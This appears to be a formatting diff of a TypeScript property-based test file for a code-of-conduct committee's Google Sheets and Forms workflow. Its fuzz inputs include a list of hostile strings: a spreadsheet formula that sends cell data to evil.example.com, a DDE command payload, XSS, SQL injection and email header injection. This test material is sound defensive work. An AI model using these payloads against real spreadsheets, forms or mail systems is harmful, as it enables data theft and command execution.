@@ -54,15 +54,78 @@ export const CLOCKS: Clock[] = [
 // People. Names never use a code-name word (so a code name can never look like a later report's name).
 
 const CODE_WORDS = new Set([...ADJECTIVES, ...NOUNS].flatMap((w) => w.toLowerCase().split(/\s+/)));
-const FIRST = ['Ana', 'Bo', 'Cyan', 'Dario', 'Elif', 'Fumi', 'Goran', 'Hiba', 'Ines', 'Jonas', 'Kemal', 'Lior', 'Mbali', 'Nadia', 'Oskar', 'Priya', 'Quentin', 'Rania', 'Sami', 'Tuuli', 'Uche', 'Vesna', 'Wen', 'Ximena', 'Yusuf', 'Zofia', 'José', 'Zoë', 'Łukasz', 'Ngozi']
-  .filter((w) => !CODE_WORDS.has(w.toLowerCase()));
-const LAST = ['Abara', 'Brandt', 'Castellanos', 'Dimitrov', 'Eriksen', 'Fujimoto', 'Gallagher', 'Haddad', 'Ivanova', 'Jaramillo', 'Kowalczyk', 'Lindqvist', 'Mwangi', 'Nakagawa', 'Okonkwo', 'Petrossian', 'Quispe', 'Rahimi', 'Szabo', 'Takahashi', 'Umarov', 'Vasquez', 'Wojcik', 'Xu', 'Yilmaz', 'Zielinski', 'Núñez', 'Ødegaard']
-  .filter((w) => !CODE_WORDS.has(w.toLowerCase()));
+const FIRST = [
+  'Ana',
+  'Bo',
+  'Cyan',
+  'Dario',
+  'Elif',
+  'Fumi',
+  'Goran',
+  'Hiba',
+  'Ines',
+  'Jonas',
+  'Kemal',
+  'Lior',
+  'Mbali',
+  'Nadia',
+  'Oskar',
+  'Priya',
+  'Quentin',
+  'Rania',
+  'Sami',
+  'Tuuli',
+  'Uche',
+  'Vesna',
+  'Wen',
+  'Ximena',
+  'Yusuf',
+  'Zofia',
+  'José',
+  'Zoë',
+  'Łukasz',
+  'Ngozi',
+].filter((w) => !CODE_WORDS.has(w.toLowerCase()));
+const LAST = [
+  'Abara',
+  'Brandt',
+  'Castellanos',
+  'Dimitrov',
+  'Eriksen',
+  'Fujimoto',
+  'Gallagher',
+  'Haddad',
+  'Ivanova',
+  'Jaramillo',
+  'Kowalczyk',
+  'Lindqvist',
+  'Mwangi',
+  'Nakagawa',
+  'Okonkwo',
+  'Petrossian',
+  'Quispe',
+  'Rahimi',
+  'Szabo',
+  'Takahashi',
+  'Umarov',
+  'Vasquez',
+  'Wojcik',
+  'Xu',
+  'Yilmaz',
+  'Zielinski',
+  'Núñez',
+  'Ødegaard',
+].filter((w) => !CODE_WORDS.has(w.toLowerCase()));
 
 const nameArb = fc.tuple(fc.constantFrom(...FIRST), fc.constantFrom(...LAST)).map(([f, l]) => `${f} ${l}`);
 
 function slug(name: string): string {
-  return name.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase().replace(/[^a-z0-9]+/g, '.').replace(/^\.|\.$/g, '');
+  return name
+    .normalize('NFD')
+    .replace(/\p{M}/gu, '')
+    .toLowerCase()
+    .replace(/[^a-z0-9]+/g, '.')
+    .replace(/^\.|\.$/g, '');
 }
 
 export interface MemberModel extends MemberSpec {
@@ -71,26 +134,54 @@ export interface MemberModel extends MemberSpec {
 
 /** 1–12 members, voting or adviser, some with addresses that have no Google account. */
 export const committeeArb: fc.Arbitrary<MemberModel[]> = fc
-  .uniqueArray(fc.record({ name: nameArb, voting: fc.boolean(), googleAccount: fc.boolean() }), { minLength: 1, maxLength: 12, selector: (m) => m.name })
-  .map((list) => list.map((m, i) => ({
-    name: m.name, email: `${slug(m.name)}.${i}@example.org`, role: m.voting ? 'voting' as const : 'adviser' as const, googleAccount: m.googleAccount || i === 0,
-  })));
+  .uniqueArray(fc.record({ name: nameArb, voting: fc.boolean(), googleAccount: fc.boolean() }), {
+    minLength: 1,
+    maxLength: 12,
+    selector: (m) => m.name,
+  })
+  .map((list) =>
+    list.map((m, i) => ({
+      name: m.name,
+      email: `${slug(m.name)}.${i}@example.org`,
+      role: m.voting ? ('voting' as const) : ('adviser' as const),
+      googleAccount: m.googleAccount || i === 0,
+    })),
+  );
 
 // ---------------------------------------------------------------------------------------------------
 // Reports with hostile text
 
 export const HOSTILE = [
-  '=IMPORTXML("https://evil.example.com/?q="&A1,"//a")', '+1+1', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("https://evil.example.com","x")',
-  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'; DROP TABLE cases; --", '\u202Egnp.exe', '\u200B\u200D\uFEFF',
-  '😀🏳️‍🌈👩🏽‍💻', 'مرحبا بالعالم', 'שלום', '\u0000\u0007\u001b[31m', 'line one\r\nBcc: evil@example.com', '{{7*7}} ${7*7} <?= 7 ?>',
-  '\t=cmd|"/c calc"!A1', '%0d%0aBcc:%20evil@example.com',
+  '=IMPORTXML("https://evil.example.com/?q="&A1,"//a")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '=HYPERLINK("https://evil.example.com","x")',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'; DROP TABLE cases; --",
+  '\u202Egnp.exe',
+  '\u200B\u200D\uFEFF',
+  '😀🏳️‍🌈👩🏽‍💻',
+  'مرحبا بالعالم',
+  'שלום',
+  '\u0000\u0007\u001b[31m',
+  'line one\r\nBcc: evil@example.com',
+  '{{7*7}} ${7*7} <?= 7 ?>',
+  '\t=cmd|"/c calc"!A1',
+  '%0d%0aBcc:%20evil@example.com',
 ];
 
 const textArb = fc.oneof(
   { weight: 4, arbitrary: fc.lorem({ maxCount: 30 }) },
   { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
   { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
-  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.integer({ min: 200, max: 3000 })).map(([s, n]) => s.repeat(Math.ceil(n / s.length)).slice(0, n)) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .tuple(fc.constantFrom(...HOSTILE), fc.integer({ min: 200, max: 3000 }))
+      .map(([s, n]) => s.repeat(Math.ceil(n / s.length)).slice(0, n)),
+  },
 );
 
 export interface ReportModel {
@@ -102,12 +193,27 @@ export interface ReportModel {
 export const reportArb: fc.Arbitrary<ReportModel> = fc
   .record({
     reporterName: fc.option(nameArb, { nil: undefined }),
-    reporterEmail: fc.option(fc.oneof(
-      { weight: 5, arbitrary: nameArb.map((n) => `${slug(n)}@example.net`) },
-      { weight: 1, arbitrary: fc.constantFrom('not an address', 'a@b', 'x@example.net\r\nBcc: evil@example.com', ' spaced @example.net', 'two@example.net, three@example.net') },
-    ), { nil: undefined }),
+    reporterEmail: fc.option(
+      fc.oneof(
+        { weight: 5, arbitrary: nameArb.map((n) => `${slug(n)}@example.net`) },
+        {
+          weight: 1,
+          arbitrary: fc.constantFrom(
+            'not an address',
+            'a@b',
+            'x@example.net\r\nBcc: evil@example.com',
+            ' spaced @example.net',
+            'two@example.net, three@example.net',
+          ),
+        },
+      ),
+      { nil: undefined },
+    ),
     reported: fc.uniqueArray(nameArb, { minLength: 0, maxLength: 3 }),
-    reportedEmail: fc.option(nameArb.map((n) => `${slug(n)}@example.com`), { nil: undefined }),
+    reportedEmail: fc.option(
+      nameArb.map((n) => `${slug(n)}@example.com`),
+      { nil: undefined },
+    ),
     witness: fc.option(nameArb, { nil: undefined }),
     what: textArb,
     where: fc.constantFrom(SPACE, 'Other', ''),
@@ -117,7 +223,9 @@ export const reportArb: fc.Arbitrary<ReportModel> = fc
   })
   .map((x) => {
     // "What happened?" is the Form's one required question: the Form itself refuses a blank answer.
-    const answers: Record<string, string> = { 'What happened?': x.what.trim() ? x.what : `${x.what}Something happened.` };
+    const answers: Record<string, string> = {
+      'What happened?': x.what.trim() ? x.what : `${x.what}Something happened.`,
+    };
     if (x.reporterName) answers['Your name'] = x.reporterName;
     if (x.reporterEmail) answers['Your email address'] = x.reporterEmail;
     const involved = [...x.reported, ...(x.reportedEmail ? [x.reportedEmail] : [])];
@@ -127,7 +235,10 @@ export const reportArb: fc.Arbitrary<ReportModel> = fc
     if (x.danger) answers['Is anyone in immediate danger?'] = x.danger;
     if (x.extra) answers['Anything else we should know?'] = x.extra;
     const people: ReportPeople = {
-      reporter: { name: x.reporterName, email: x.reporterEmail && /^[^\s@,]+@[^\s@,]+\.[a-z]+$/i.test(x.reporterEmail) ? x.reporterEmail : undefined },
+      reporter: {
+        name: x.reporterName,
+        email: x.reporterEmail && /^[^\s@,]+@[^\s@,]+\.[a-z]+$/i.test(x.reporterEmail) ? x.reporterEmail : undefined,
+      },
       reported: [...x.reported.map((name) => ({ name })), ...(x.reportedEmail ? [{ email: x.reportedEmail }] : [])],
       witnesses: x.witness ? [{ name: x.witness }] : [],
     };
@@ -142,14 +253,28 @@ export type Step =
   | { kind: 'blank' }
   | { kind: 'respond'; member: number; kase: number; answer: 'no-conflict' | 'conflict' }
   | { kind: 'casePageConflict'; member: number; kase: number }
-  | { kind: 'writeDoc'; member: number; kase: number; section: keyof typeof DOC_SECTION; text: string; mention: 'none' | 'reporter' | 'witness' }
+  | {
+      kind: 'writeDoc';
+      member: number;
+      kase: number;
+      section: keyof typeof DOC_SECTION;
+      text: string;
+      mention: 'none' | 'reporter' | 'witness';
+    }
   | { kind: 'openVote'; member: number; kase: number }
   | { kind: 'vote'; member: number; kase: number; choice: 'approve' | 'reject' | 'abstain' }
   | { kind: 'recommend'; member: number; kase: number }
   | { kind: 'moderator'; moderator: number; kase: number; answer: 'accept' | 'disagree' }
   | { kind: 'letter'; member: number; kase: number }
   | { kind: 'followUp'; member: number; kase: number }
-  | { kind: 'sheet'; member: number; edit: 'sort' | 'insert' | 'delete' | 'rename' | 'status' | 'resolution'; kase: number; column: number; value: string }
+  | {
+      kind: 'sheet';
+      member: number;
+      edit: 'sort' | 'insert' | 'delete' | 'rename' | 'status' | 'resolution';
+      kase: number;
+      column: number;
+      value: string;
+    }
   | { kind: 'roster'; member: number; active: boolean }
   | { kind: 'addMember'; name: string }
   | { kind: 'scan'; member: number }
@@ -163,31 +288,76 @@ const kaseIdx = fc.integer({ min: 1, max: 4 });
 export const stepArbs = {
   report: reportArb.map((report) => ({ kind: 'report' as const, report })),
   blank: fc.constant({ kind: 'blank' as const }),
-  respond: fc.record({ kind: fc.constant('respond' as const), member: idx, kase: kaseIdx, answer: fc.constantFrom('no-conflict' as const, 'no-conflict' as const, 'conflict' as const) }),
+  respond: fc.record({
+    kind: fc.constant('respond' as const),
+    member: idx,
+    kase: kaseIdx,
+    answer: fc.constantFrom('no-conflict' as const, 'no-conflict' as const, 'conflict' as const),
+  }),
   casePageConflict: fc.record({ kind: fc.constant('casePageConflict' as const), member: idx, kase: kaseIdx }),
   writeDoc: fc.record({
-    kind: fc.constant('writeDoc' as const), member: idx, kase: kaseIdx,
-    section: fc.constantFrom('plan' as const, 'consequences' as const, 'letter' as const, 'followUp' as const, 'discussion' as const),
-    text: textArb, mention: fc.constantFrom('none' as const, 'none' as const, 'reporter' as const, 'witness' as const),
+    kind: fc.constant('writeDoc' as const),
+    member: idx,
+    kase: kaseIdx,
+    section: fc.constantFrom(
+      'plan' as const,
+      'consequences' as const,
+      'letter' as const,
+      'followUp' as const,
+      'discussion' as const,
+    ),
+    text: textArb,
+    mention: fc.constantFrom('none' as const, 'none' as const, 'reporter' as const, 'witness' as const),
   }),
   openVote: fc.record({ kind: fc.constant('openVote' as const), member: idx, kase: kaseIdx }),
-  vote: fc.record({ kind: fc.constant('vote' as const), member: idx, kase: kaseIdx, choice: fc.constantFrom('approve' as const, 'approve' as const, 'reject' as const, 'abstain' as const) }),
+  vote: fc.record({
+    kind: fc.constant('vote' as const),
+    member: idx,
+    kase: kaseIdx,
+    choice: fc.constantFrom('approve' as const, 'approve' as const, 'reject' as const, 'abstain' as const),
+  }),
   recommend: fc.record({ kind: fc.constant('recommend' as const), member: idx, kase: kaseIdx }),
-  moderator: fc.record({ kind: fc.constant('moderator' as const), moderator: fc.nat({ max: 1 }), kase: kaseIdx, answer: fc.constantFrom('accept' as const, 'accept' as const, 'disagree' as const) }),
+  moderator: fc.record({
+    kind: fc.constant('moderator' as const),
+    moderator: fc.nat({ max: 1 }),
+    kase: kaseIdx,
+    answer: fc.constantFrom('accept' as const, 'accept' as const, 'disagree' as const),
+  }),
   letter: fc.record({ kind: fc.constant('letter' as const), member: idx, kase: kaseIdx }),
   followUp: fc.record({ kind: fc.constant('followUp' as const), member: idx, kase: kaseIdx }),
   sheet: fc.record({
-    kind: fc.constant('sheet' as const), member: idx,
-    edit: fc.constantFrom('sort' as const, 'insert' as const, 'delete' as const, 'rename' as const, 'status' as const, 'resolution' as const),
-    kase: kaseIdx, column: fc.integer({ min: 1, max: 7 }), value: fc.oneof(fc.constantFrom('Resolved', 'Closed', 'Ongoing', 'New', 'Warning given', 'Next steps', 'Notes'), textArb),
+    kind: fc.constant('sheet' as const),
+    member: idx,
+    edit: fc.constantFrom(
+      'sort' as const,
+      'insert' as const,
+      'delete' as const,
+      'rename' as const,
+      'status' as const,
+      'resolution' as const,
+    ),
+    kase: kaseIdx,
+    column: fc.integer({ min: 1, max: 7 }),
+    value: fc.oneof(
+      fc.constantFrom('Resolved', 'Closed', 'Ongoing', 'New', 'Warning given', 'Next steps', 'Notes'),
+      textArb,
+    ),
   }),
   roster: fc.record({ kind: fc.constant('roster' as const), member: idx, active: fc.boolean() }),
   addMember: nameArb.map((name) => ({ kind: 'addMember' as const, name })),
   scan: fc.record({ kind: fc.constant('scan' as const), member: idx }),
-  busy: fc.record({ kind: fc.constant('busy' as const), then: fc.constantFrom('respond' as const, 'report' as const), member: idx, kase: kaseIdx }),
+  busy: fc.record({
+    kind: fc.constant('busy' as const),
+    then: fc.constantFrom('respond' as const, 'report' as const),
+    member: idx,
+    kase: kaseIdx,
+  }),
   advance: fc.record({ kind: fc.constant('advance' as const), hours: fc.integer({ min: 1, max: 3 }) }),
   /** A day or a week passes with the hourly sweep paused (as when Google disables it, R6); one sweep then catches up. */
-  week: fc.record({ kind: fc.constant('week' as const), hours: fc.oneof(fc.integer({ min: 20, max: 30 }), fc.integer({ min: 167, max: 170 })) }),
+  week: fc.record({
+    kind: fc.constant('week' as const),
+    hours: fc.oneof(fc.integer({ min: 20, max: 30 }), fc.integer({ min: 167, max: 170 })),
+  }),
 };
 
 export interface History {
@@ -200,14 +370,26 @@ export interface History {
 }
 
 /** Services that fail with Google's transient messages in fault runs. */
-const FAULTY = ['MailApp.sendEmail', 'Drive.Permissions.create', 'Drive.Permissions.list', 'Drive.Files.get', 'DocumentApp.openById', 'SpreadsheetApp.openById', 'FormApp.openById', 'File.setSharing'];
+const FAULTY = [
+  'MailApp.sendEmail',
+  'Drive.Permissions.create',
+  'Drive.Permissions.list',
+  'Drive.Files.get',
+  'DocumentApp.openById',
+  'SpreadsheetApp.openById',
+  'FormApp.openById',
+  'File.setSharing',
+];
 const TRANSIENT = [
   "We're sorry, a server error occurred. Please wait a bit and try again.",
   'Service Spreadsheets timed out while accessing document with id 1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg.',
   'Service invoked too many times in a short time: drive. Try Utilities.sleep(1000) between calls.',
 ];
 
-export function historyArb(steps: fc.Arbitrary<Step>, options: { minSteps?: number; maxSteps?: number; faults?: boolean } = {}): fc.Arbitrary<History> {
+export function historyArb(
+  steps: fc.Arbitrary<Step>,
+  options: { minSteps?: number; maxSteps?: number; faults?: boolean } = {},
+): fc.Arbitrary<History> {
   return fc.record({
     clock: fc.constantFrom(...CLOCKS),
     committee: committeeArb,
@@ -219,7 +401,11 @@ export function historyArb(steps: fc.Arbitrary<Step>, options: { minSteps?: numb
 
 function faultsFor(h: History): FaultSpec[] {
   if (!h.faultChance) return [];
-  return FAULTY.map((call, i) => ({ call, chance: h.faultChance, message: TRANSIENT[(i + h.faultSeed) % TRANSIENT.length] }));
+  return FAULTY.map((call, i) => ({
+    call,
+    chance: h.faultChance,
+    message: TRANSIENT[(i + h.faultSeed) % TRANSIENT.length],
+  }));
 }
 
 // ---------------------------------------------------------------------------------------------------
@@ -288,7 +474,13 @@ function playStep(r: Rehearsal, s: Step): void {
       if (exists(s.kase)) r.sendRecommendation(who(s.member), s.kase);
       return;
     case 'moderator':
-      if (exists(s.kase)) r.moderatorReply(MODERATORS[s.moderator], s.kase, s.answer, s.answer === 'disagree' ? 'We would rather start with a conversation.' : '');
+      if (exists(s.kase))
+        r.moderatorReply(
+          MODERATORS[s.moderator],
+          s.kase,
+          s.answer,
+          s.answer === 'disagree' ? 'We would rather start with a conversation.' : '',
+        );
       return;
     case 'letter': {
       if (!exists(s.kase)) return;
@@ -317,7 +509,11 @@ function playStep(r: Rehearsal, s: Step): void {
       // Another execution holds the script lock for 40 s: pages say "busy", a trigger's waitLock(30 s) fails.
       r.ws.holdScriptLock(r.ws.rt.now() + 40_000);
       if (s.then === 'respond' && exists(s.kase)) r.respond(who(s.member), s.kase, 'no-conflict');
-      else if (s.then === 'report') r.report({ 'What happened?': 'A report sent while the system was busy.', 'Who was involved?': 'Someone Unnamed' }, { reported: [{ name: 'Someone Unnamed' }] });
+      else if (s.then === 'report')
+        r.report(
+          { 'What happened?': 'A report sent while the system was busy.', 'Who was involved?': 'Someone Unnamed' },
+          { reported: [{ name: 'Someone Unnamed' }] },
+        );
       return;
     }
     case 'advance':
@@ -361,11 +557,13 @@ function playSheetEdit(r: Rehearsal, s: Extract<Step, { kind: 'sheet' }>): void 
         return;
       }
       case 'status':
-        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Status')) r.editCase(user, s.kase, 'Status', /^(Resolved|Closed|Ongoing|New)$/.test(s.value) ? s.value : 'Ongoing');
+        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Status'))
+          r.editCase(user, s.kase, 'Status', /^(Resolved|Closed|Ongoing|New)$/.test(s.value) ? s.value : 'Ongoing');
         return;
       case 'resolution':
         // People type free text here: never a formula in this model (a typed formula is the adversarial suite's case).
-        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Resolution')) r.editCase(user, s.kase, 'Resolution', s.value.replace(/^[=+\-@\t\r\n]+/, ''));
+        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Resolution'))
+          r.editCase(user, s.kase, 'Resolution', s.value.replace(/^[=+\-@\t\r\n]+/, ''));
         return;
     }
   } catch (err) {
@@ -377,14 +575,30 @@ function playSheetEdit(r: Rehearsal, s: Extract<Step, { kind: 'sheet' }>): void 
 /** Deadlines are instants N×24 h after receipt, whatever the zone's DST does; sheet times are shown in the committee's zone. */
 function timeChecks(r: Rehearsal, zone: string): string[] {
   const out: string[] = [];
-  const fmt = new Intl.DateTimeFormat('en-CA', { timeZone: zone, year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' });
+  const fmt = new Intl.DateTimeFormat('en-CA', {
+    timeZone: zone,
+    year: 'numeric',
+    month: '2-digit',
+    day: '2-digit',
+    hour: '2-digit',
+    minute: '2-digit',
+    hourCycle: 'h23',
+  });
   const status = r.status();
   for (const c of r.registry('Cases')) {
     const received = Date.parse(c['Received At']);
     let deadlines: { acknowledgeBy?: string; followUpBy?: string; followUpDays?: number };
-    try { deadlines = JSON.parse(c.Deadlines); } catch { out.push(`case ${c['Case ID']} has unreadable deadlines`); continue; }
+    try {
+      deadlines = JSON.parse(c.Deadlines);
+    } catch {
+      out.push(`case ${c['Case ID']} has unreadable deadlines`);
+      continue;
+    }
     const follow = Date.parse(deadlines.followUpBy ?? '');
-    if (deadlines.followUpDays && follow - received !== deadlines.followUpDays * DAY) out.push(`follow-up deadline of ${c['Case ID']} is ${(follow - received) / HOUR} h after receipt, not ${deadlines.followUpDays * 24} h`);
+    if (deadlines.followUpDays && follow - received !== deadlines.followUpDays * DAY)
+      out.push(
+        `follow-up deadline of ${c['Case ID']} is ${(follow - received) / HOUR} h after receipt, not ${deadlines.followUpDays * 24} h`,
+      );
     const ack = Date.parse(deadlines.acknowledgeBy ?? '');
     if (!(ack > received)) out.push(`acknowledgment deadline of ${c['Case ID']} is not after receipt`);
     const row = status.find((s) => (s['Code Name'] ?? '').trim().toLowerCase() === c['Code Name'].toLowerCase());
@@ -401,7 +615,8 @@ function timeChecks(r: Rehearsal, zone: string): string[] {
 /** Plays one generated history on a fresh committee; returns every violation seen after any step, and after settling. */
 export function playHistory(h: History, inspect?: (r: Rehearsal) => void): PlayOutcome {
   const r = Rehearsal.start({
-    start: h.clock.start, timeZone: h.clock.zone,
+    start: h.clock.start,
+    timeZone: h.clock.zone,
     spaces: [{ name: SPACE, moderators: MODERATORS }],
     settings: { 'Escalation contact': 'board@example.org' },
     noGoogleAccount: h.committee.filter((m) => !m.googleAccount).map((m) => m.email),
@@ -436,7 +651,15 @@ export function playHistory(h: History, inspect?: (r: Rehearsal) => void): PlayO
 // The whole procedure for one case, driven forward with random people and choices
 
 const interleaved: fc.Arbitrary<Step> = fc.oneof(
-  stepArbs.advance, stepArbs.week, stepArbs.sheet, stepArbs.scan, stepArbs.respond, stepArbs.casePageConflict, stepArbs.roster, stepArbs.writeDoc, stepArbs.busy,
+  stepArbs.advance,
+  stepArbs.week,
+  stepArbs.sheet,
+  stepArbs.scan,
+  stepArbs.respond,
+  stepArbs.casePageConflict,
+  stepArbs.roster,
+  stepArbs.writeDoc,
+  stepArbs.busy,
 );
 
 /** The procedure in order for case 1, with random people and choices, and random steps inserted anywhere. */
@@ -447,11 +670,26 @@ export const procedureArb: fc.Arbitrary<History> = fc
     // other property files cover committees of up to twelve.
     committee: committeeArb.map((c) => c.slice(0, 8)),
     report: reportArb,
-    answers: fc.array(fc.constantFrom('no-conflict' as const, 'no-conflict' as const, 'conflict' as const), { minLength: 12, maxLength: 12 }),
+    answers: fc.array(fc.constantFrom('no-conflict' as const, 'no-conflict' as const, 'conflict' as const), {
+      minLength: 12,
+      maxLength: 12,
+    }),
     writer: fc.nat({ max: 11 }),
     texts: fc.array(stepArbs.writeDoc, { minLength: 4, maxLength: 4 }),
-    votes: fc.array(fc.constantFrom('approve' as const, 'approve' as const, 'approve' as const, 'reject' as const, 'abstain' as const), { minLength: 12, maxLength: 12 }),
-    moderators: fc.array(fc.constantFrom('accept' as const, 'accept' as const, 'disagree' as const), { minLength: 2, maxLength: 2 }),
+    votes: fc.array(
+      fc.constantFrom(
+        'approve' as const,
+        'approve' as const,
+        'approve' as const,
+        'reject' as const,
+        'abstain' as const,
+      ),
+      { minLength: 12, maxLength: 12 },
+    ),
+    moderators: fc.array(fc.constantFrom('accept' as const, 'accept' as const, 'disagree' as const), {
+      minLength: 2,
+      maxLength: 2,
+    }),
     extra: fc.array(fc.tuple(fc.nat({ max: 40 }), interleaved), { maxLength: 4 }),
     clock: fc.constantFrom(...CLOCKS),
   })
@@ -459,7 +697,10 @@ export const procedureArb: fc.Arbitrary<History> = fc
     const n = x.committee.length;
     const sections = ['plan', 'consequences', 'letter', 'followUp'] as const;
     const steps: Step[] = [
-      { kind: 'report', report: { ...x.report, answers: { ...x.report.answers, 'Where did it happen?': 'Discourse' } } },
+      {
+        kind: 'report',
+        report: { ...x.report, answers: { ...x.report.answers, 'Where did it happen?': 'Discourse' } },
+      },
       ...x.committee.map((_, i) => ({ kind: 'respond' as const, member: i, kase: 1, answer: x.answers[i] })),
       ...x.texts.map((t, i) => ({ ...t, member: x.writer % n, kase: 1, section: sections[i] })),
       { kind: 'openVote', member: x.writer % n, kase: 1 },
